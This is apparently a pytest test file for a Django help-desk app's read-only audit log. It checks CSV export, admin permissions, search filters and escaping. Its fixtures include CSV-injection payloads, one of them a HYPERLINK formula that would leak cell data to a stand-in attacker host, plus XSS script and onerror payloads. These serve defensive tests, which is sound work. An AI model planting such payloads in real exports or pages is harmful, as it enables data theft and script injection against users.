"""Administrators search the audit log and export it; nobody can add, change or delete in it."""

import csv
import datetime
import io

import pytest

from django.contrib.auth.models import Permission
from django.utils import timezone

from tessera.accounts.models import User
from tessera.audit import services
from tessera.audit.csv_export import safe_cell
from tessera.audit.models import Action, AuditEntry

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR"]


@pytest.fixture
def admin_client(client, desk):
    client.force_login(desk.admin)
    return client


@pytest.fixture
def staff_viewer(client, desk):
    """An administrator who may open the admin and read the log, but is no superuser."""
    user = User.objects.create_user("auditor@example.com", desk.password, name="Audrey Auditor", is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="view_auditentry"))
    client.force_login(user)
    return client


def _rows(response):
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.parametrize("value", HOSTILE)
def test_cells_a_spreadsheet_would_run_are_defused(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain", "john@example.com", "", "1-2", "a=b"])
def test_ordinary_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_the_export_escapes_hostile_values_in_every_column(admin_client, desk):
    for value in HOSTILE:
        services.record(Action.SIGN_IN_FAILED, object_repr=value, object_id=value, detail=value, object_type=value)
    response = admin_client.get("/admin/audit/auditentry/export/?action=sign_in_failed")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="audit-log-')
    rows = _rows(response)
    assert rows[0][0] == "Time (UTC)"
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert sorted(r[6] for r in rows[1:]) == sorted("'" + v for v in HOSTILE)


def test_the_export_carries_times_in_utc_and_follows_the_search(admin_client, desk):
    services.record(Action.CHANGE, object_repr="Billing", detail="renamed")
    services.record(Action.CHANGE, object_repr="Support", detail="kept")
    rows = _rows(admin_client.get("/admin/audit/auditentry/export/?q=Billing"))
    assert [r[6] for r in rows[1:]] == ["Billing"]
    assert rows[1][0].endswith("Z")


def test_export_is_refused_to_administrators_who_are_not_superusers(staff_viewer):
    assert staff_viewer.get("/admin/audit/auditentry/").status_code == 200
    assert staff_viewer.get("/admin/audit/auditentry/export/").status_code == 403
    assert "Export CSV" not in staff_viewer.get("/admin/audit/auditentry/").content.decode()


@pytest.mark.parametrize("who", ["anonymous", "agent"])
def test_export_and_log_are_closed_to_everyone_else(client, desk, who):
    if who == "agent":
        client.force_login(desk.john.user)
    for url in ("/admin/audit/auditentry/", "/admin/audit/auditentry/export/"):
        response = client.get(url)
        assert response.status_code == 302 and "/admin/login/" in response["Location"]


def test_the_admin_cannot_add_change_or_delete_entries_even_as_superuser(admin_client, desk):
    entry = services.record(Action.CHANGE, object_repr="Support", detail="original")
    assert admin_client.get("/admin/audit/auditentry/add/").status_code == 403
    assert admin_client.post("/admin/audit/auditentry/add/", {"detail": "forged"}).status_code == 403
    assert admin_client.post(f"/admin/audit/auditentry/{entry.pk}/change/", {"detail": "rewritten"}).status_code == 403
    assert admin_client.post(f"/admin/audit/auditentry/{entry.pk}/delete/", {"post": "yes"}).status_code == 403
    response = admin_client.post(
        "/admin/audit/auditentry/", {"action": "delete_selected", "_selected_action": [entry.pk], "post": "yes"}
    )
    assert response.status_code in (200, 302)
    assert AuditEntry.objects.get(pk=entry.pk).detail == "original"
    assert not AuditEntry.objects.filter(action=Action.ADMIN_ACTION).exists()
    page = admin_client.get(f"/admin/audit/auditentry/{entry.pk}/change/")
    assert page.status_code == 200  # the entry can be read
    assert 'name="_save"' not in page.content.decode()


def test_the_list_shows_hostile_values_as_text(admin_client):
    services.record(
        Action.SIGN_IN_FAILED, object_repr="<script>alert(1)</script>", detail="<img src=x onerror=alert(2)>"
    )
    page = admin_client.get("/admin/audit/auditentry/").content.decode()
    assert "<script>alert(1)" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def _listed(client, query):
    response = client.get("/admin/audit/auditentry/" + query)
    assert response.status_code == 200
    return sorted(e.detail for e in response.context["cl"].result_list)


def test_administrators_filter_by_action_actor_object_text_and_dates(admin_client, desk):
    services.record(Action.SIGN_IN, actor=desk.john.user, obj=desk.john.user, detail="john signs in")
    services.record(Action.SIGN_IN_FAILED, object_repr="jane@example.com", detail="jane fails")
    services.record(Action.CHANGE, actor=desk.admin, obj=desk.support, detail="support renamed")
    old = services.record(Action.CHANGE, actor=desk.admin, obj=desk.billing, detail="billing long ago")
    # Backdated through SQL for the test only: the application cannot change entries.
    from django.db import connection

    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE audit_auditentry SET created_at = %s WHERE id = %s",
            [timezone.now() - datetime.timedelta(days=40), old.pk],
        )

    assert _listed(admin_client, "?action=sign_in_failed") == ["jane fails"]
    assert "john signs in" in _listed(admin_client, "?actor=john%40example")
    assert _listed(admin_client, "?object_type=accounts.department") == ["billing long ago", "support renamed"]
    assert _listed(admin_client, "?q=renamed") == ["support renamed"]
    today = timezone.localdate()
    recent = _listed(admin_client, f"?object_type=accounts.department&since={today - datetime.timedelta(days=7)}")
    assert recent == ["support renamed"]
    early = _listed(admin_client, f"?object_type=accounts.department&until={today - datetime.timedelta(days=30)}")
    assert early == ["billing long ago"]
    export = _rows(
        admin_client.get(f"/admin/audit/auditentry/export/?action=change&until={today - datetime.timedelta(days=30)}")
    )
    assert [r[-1] for r in export[1:]] == ["billing long ago"]


def test_a_malformed_date_is_ignored_not_a_server_error(admin_client):
    assert admin_client.get("/admin/audit/auditentry/?since=2026-13-45&until=yesterday").status_code == 200
